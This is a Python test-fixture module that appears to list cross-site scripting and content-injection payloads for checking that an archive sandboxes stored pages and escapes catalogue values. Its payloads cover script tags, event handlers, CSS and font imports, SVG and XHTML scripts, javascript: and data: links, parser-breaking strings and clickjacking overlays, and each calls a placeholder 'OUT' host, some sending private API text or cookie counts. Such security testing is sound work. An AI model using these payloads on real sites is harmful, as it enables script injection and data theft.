# ruff: noqa: E501  # an attack is one line, however long
"""Attacks that an archived page, or a row of the catalogue, may carry. Each ends in a request for `OUT/<its name>` if it works.

`API` is an address of the archive's own origin that only its reader may read. What has to be clicked lies in the page's upper left
corner.
"""

from __future__ import annotations

from dataclasses import dataclass, field

_CLICK = "style='position:fixed;left:0;top:0;width:300px;height:200px;display:block'"
_READ = "fetch('API').then(r=>r.text()).then(t=>fetch('OUT/NAME?'+t.length))"


@dataclass(frozen=True, slots=True)
class Attack:
    """A page, its type and headers, whether somebody has to click, and what lies beside it: by name, each with its type."""

    name: str
    page: str
    mime: str = "text/html"
    headers: list[tuple[str, str]] = field(default_factory=list)
    click: bool = False
    parts: dict[str, tuple[str, str]] = field(default_factory=dict)

    def body(self, out: str, api: str) -> bytes:
        return self.page.replace("OUT", out).replace("API", api).replace("NAME", self.name).encode()

    def beside(self, out: str) -> dict[str, tuple[bytes, str]]:
        return {
            name: (text.replace("OUT", out).replace("NAME", self.name).encode(), mime)
            for name, (text, mime) in self.parts.items()
        }


def _sheet(name: str, css: str, page: str = "<p title=secret>x", mime: str = "text/css") -> Attack:
    """A page whose stylesheet, which was kept beside it, attacks."""
    return Attack(name, f"<link rel=stylesheet href={name}.css>{page}", parts={f"{name}.css": (css, mime)})


def _svg(name: str, content: str, before: str = "") -> Attack:
    return Attack(name, f"{before}<svg xmlns='http://www.w3.org/2000/svg'>{content}</svg>", "image/svg+xml")


PAGES = [
    Attack("script", "<script>fetch('OUT/NAME')</script>"),
    Attack("script-src", "<script src='OUT/NAME'></script>"),
    Attack("module", "<script type=module>fetch('OUT/NAME')</script>"),
    Attack("read-api", f"<script>{_READ}</script>"),
    Attack(
        "read-api-xhr",
        "<script>x=new XMLHttpRequest;x.open('GET','API',false);x.send();fetch('OUT/NAME?'+x.responseText.length)</script>",
    ),
    Attack("parent", "<script>fetch('OUT/NAME?'+parent.document.title.length)</script>"),
    Attack("cookie", "<script>fetch('OUT/NAME?'+document.cookie.length+localStorage.length)</script>"),
    Attack("worker", "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('OUT/NAME')\"])))</script>"),
    Attack("beacon", "<script>navigator.sendBeacon('OUT/NAME')</script>"),
    Attack("socket", "<script>new EventSource('OUT/NAME')</script>"),
    Attack("top", "<script>top.location='OUT/NAME'</script>"),
    Attack("img-error", "<img src=x: onerror=\"fetch('OUT/NAME')\">"),
    Attack("body-load", "<body onload=\"fetch('OUT/NAME')\">"),
    Attack("svg-load", "<svg onload=\"fetch('OUT/NAME')\"></svg>"),
    Attack("svg-script", "<svg><script>fetch('OUT/NAME')</script></svg>"),
    Attack("svg-image", "<svg><image href='OUT/NAME' width=9 height=9></image></svg>"),
    Attack(
        "math",
        "<math><mtext></p><style><img src=x: onerror=\"fetch('OUT/NAME')\"></style></math><img src=y: onerror=\"fetch('OUT/NAME')\">",
    ),
    Attack("toggle", "<details open ontoggle=\"fetch('OUT/NAME')\"><summary>x</summary></details>"),
    Attack("focus", "<input autofocus onfocus=\"fetch('OUT/NAME')\">"),
    Attack("animation", "<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart=\"fetch('OUT/NAME')\">x"),
    Attack("marquee", "<marquee onstart=\"fetch('OUT/NAME')\">x</marquee>"),
    Attack("iframe", "<iframe src='OUT/NAME'></iframe>"),
    Attack("iframe-script", "<iframe src=\"javascript:fetch('OUT/NAME')\"></iframe>"),
    Attack("srcdoc", "<iframe srcdoc=\"<script>fetch('OUT/NAME')</script>\"></iframe>"),
    Attack("object", "<object data='OUT/NAME'></object>"),
    Attack("embed", "<embed src='OUT/NAME' type=text/html>"),
    Attack("refresh", "<meta http-equiv=refresh content='0;url=OUT/NAME'>"),
    Attack("base", "<base href='OUT/'><img src=NAME>"),
    Attack("image", "<img src='OUT/NAME'>"),
    Attack("srcset", "<img srcset='OUT/NAME 1x'>"),
    Attack("picture", "<picture><source srcset='OUT/NAME'><img></picture>"),
    Attack("poster", "<video poster='OUT/NAME'></video>"),
    Attack("audio", "<audio src='OUT/NAME' preload=auto></audio>"),
    Attack("background", "<body background='OUT/NAME'>"),
    Attack("style-link", "<link rel=stylesheet href='OUT/NAME'>"),
    Attack("preload", "<link rel=preload as=image href='OUT/NAME'>"),
    Attack("icon-import", "<style>@import 'OUT/NAME';</style>"),
    Attack("css-url", "<p style='background:url(OUT/NAME)'>x"),
    Attack("css-escape", "<style>p{background:u\\72l(OUT/NAME)}</style><p>x"),
    Attack("css-set", "<style>p{background:image-set('OUT/NAME' 1x)}</style><p>x"),
    Attack("font", "<style>@font-face{font-family:f;src:url(OUT/NAME)}p{font-family:f}</style><p>x"),
    Attack("css-leave", "<style>a{content:'</style><script>fetch(`OUT/NAME`)</script>'}</style>"),
    Attack("noscript", "<noscript><p title='</noscript><img src=x: onerror=fetch(`OUT/NAME`)>'></noscript>"),
    Attack("comment", "<!--><img src=x: onerror=\"fetch('OUT/NAME')\">-->"),
    Attack("textarea", "<textarea></textarea/><script>fetch('OUT/NAME')</script>"),
    Attack(
        "template",
        "<template shadowrootmode=open><script>fetch('OUT/NAME')</script></template><div><template shadowrootmode=open><img src='OUT/NAME'></template></div>",
    ),
    Attack("form", "<form action='OUT/NAME' id=f></form><script>f.submit()</script>"),
    Attack("form-click", f"<form action='OUT/NAME'><button {_CLICK}>x</button></form>", click=True),
    Attack("link-script", f"<a href=\"javascript:fetch('OUT/NAME')\" {_CLICK}>x</a>", click=True),
    Attack("link-tab", f"<a href=\"java&#9;script:fetch('OUT/NAME')\" {_CLICK}>x</a>", click=True),
    Attack("link-out", f"<a href='OUT/NAME' {_CLICK}>x</a>", click=True),
    Attack("link-top", f"<a href='OUT/NAME' target=_top {_CLICK}>x</a>", click=True),
    Attack("link-ping", f"<a href='#x' ping='OUT/NAME' {_CLICK}>x</a>", click=True),
    Attack("click", f"<p onclick=\"fetch('OUT/NAME')\" {_CLICK}>x", click=True),
    Attack(
        "own-policy",
        "<img src='OUT/NAME'>",
        headers=[("Content-Security-Policy", "default-src *"), ("Set-Cookie", "ds_actor=root")],
    ),
    Attack("refresh-header", "x", headers=[("Refresh", "0;url=OUT/NAME")]),
    Attack("link-header", "x", headers=[("Link", "<OUT/NAME>; rel=preload; as=image")]),
    Attack("svg-file", "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('OUT/NAME')</script></svg>", "image/svg+xml"),
    Attack(
        "svg-style",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='OUT/NAME' width='9' height='9'/></svg>",
        "image/svg+xml",
    ),
    Attack(
        "xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>fetch('OUT/NAME')</script></html>", "application/xhtml+xml"
    ),
    Attack("xml", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>fetch('OUT/NAME')</x:script>", "application/xml"),
    Attack("xml-style", "<?xml-stylesheet type='text/css' href='OUT/NAME'?><a/>", "text/xml"),
    _sheet("sheet-url", "p{background:url(OUT/NAME)}"),
    _sheet("sheet-reads", "p[title^=s]{background:url( 'OUT/NAME' )}"),
    _sheet("sheet-import", "@import 'OUT/NAME';"),
    _sheet("sheet-import-url", "@IMPORT URL(OUT/NAME) screen;"),
    _sheet("sheet-import-escape", "@\\69mport 'OUT/NAME';"),
    _sheet("sheet-font", "@font-face{font-family:f;src:local(x),url(OUT/NAME) format('woff2')}p{font-family:f}"),
    _sheet("sheet-set", "p{background:-webkit-image-set('OUT/NAME' 1x)}"),
    _sheet("sheet-cursor", 'p::before{content:url("OUT/NAME")}'),
    _sheet("sheet-variable", ":root{--a:url(OUT/NAME)}p{background:var(--a)}"),
    _sheet("sheet-typed-html", "p{background:url(OUT/NAME)}", mime="text/html"),
    Attack(
        "sheet-chain",
        "<link rel=stylesheet href=sheet-chain.css><p>x",
        parts={
            "sheet-chain.css": ("@import 'sheet-chain-2.css';", "text/css"),
            "sheet-chain-2.css": ("p{background:url(OUT/NAME)}", "text/css"),
        },
    ),
    Attack("sheet-data", "<link rel=stylesheet href='data:text/css,p{background:url(OUT/NAME)}'><p>x"),
    Attack("import-data", "<style>@import 'data:text/css,p{background:url(OUT/NAME)}';</style><p>x"),
    Attack("iframe-data", "<iframe src=\"data:text/html,<script>fetch('OUT/NAME')</script>\"></iframe>"),
    Attack("object-data", "<object data=\"data:text/html,<script>fetch('OUT/NAME')</script>\"></object>"),
    Attack(
        "svg-kept",
        "<iframe src=svg-kept.svg></iframe><object data=svg-kept.svg></object>",
        parts={"svg-kept.svg": ("<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('OUT/NAME')\"/>", "image/svg+xml")},
    ),
    _svg("svg-import", "<style>@import 'OUT/NAME';</style>"),
    _svg("svg-font", "<style>@font-face{font-family:f;src:url(OUT/NAME)}text{font-family:f}</style><text y='20'>x</text>"),
    _svg(
        "svg-frame",
        "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='OUT/NAME'/></foreignObject>",
    ),
    _svg("svg-sheet", "", "<?xml-stylesheet type='text/css' href='OUT/NAME'?>"),
    Attack(
        "svg-click",
        "<svg xmlns='http://www.w3.org/2000/svg'><a href='OUT/NAME'><rect width='400' height='300'/></a></svg>",
        "image/svg+xml",
        click=True,
    ),
    Attack("type-none", "<script>fetch('OUT/NAME')</script>", ""),
    Attack("type-unknown", "<!DOCTYPE html><script>fetch('OUT/NAME')</script>", "unknown/unknown"),
    Attack("type-in-capitals", "<script>fetch('OUT/NAME')</script>", "TEXT/HTML"),
]

# What a row may hold: the same value stands in every text of the catalogue, and must stay text on every page.
VALUES = {
    "row-script": "<script>fetch('OUT/row-script')</script>",
    "row-image": "<img src=x: onerror=\"fetch('OUT/row-image')\">",
    "row-leave": "'\"></title></textarea></style></script><img src='OUT/row-leave'>",
    "row-attribute": "\" onmouseover=\"fetch('OUT/row-attribute')\" style=\"position:fixed;inset:0\" autofocus onfocus=\"fetch('OUT/row-attribute')\" x=\"",
    "row-template": "{{ 7*7 }}{% raw %}<img src='OUT/row-template'>",
    "row-svg": "</p></div><svg onload=\"fetch('OUT/row-svg')\">",
}  # fmt: skip
LINKS = [
    "javascript:fetch('OUT/row-link')",
    "data:text/html,<script>fetch('OUT/row-data')</script>",
    "vbscript:x",
    "//x\" onclick=\"fetch('OUT/row-quote')",
]
